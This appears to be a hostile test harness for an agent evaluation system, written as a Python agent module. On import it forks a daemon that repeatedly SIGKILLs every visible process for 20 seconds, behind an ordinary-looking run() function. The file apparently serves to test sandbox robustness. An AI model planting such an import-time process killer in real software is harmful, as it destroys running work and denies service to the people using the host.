"""Hostile harness `import_daemon`: Forks a daemon while agent.py is imported that kills every rollout it sees."""

import json
import os


def _target():
    """Host paths and ports the test under attack wrote into data/target.json (a copy of this dir)."""
    here = os.path.dirname(os.path.abspath(__file__))
    try:
        with open(os.path.join(here, "data", "target.json")) as fh:
            return json.load(fh)
    except OSError:
        return {}

import signal
import time


def _daemon():
    """Spawned while agent.py is imported (in the fork server): kill every rollout it can see."""
    me = os.getpid()
    deadline = time.time() + 20
    while time.time() < deadline:
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) not in (1, me):
                try:
                    os.kill(int(p), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.02)
    os._exit(0)


if os.fork() == 0:
    _daemon()


def run(task, ctx):
    time.sleep(0.5)
    messages = [{"role": "user", "content": task["text"]}]
    return (ctx.llm(messages).get("content") or "").strip()
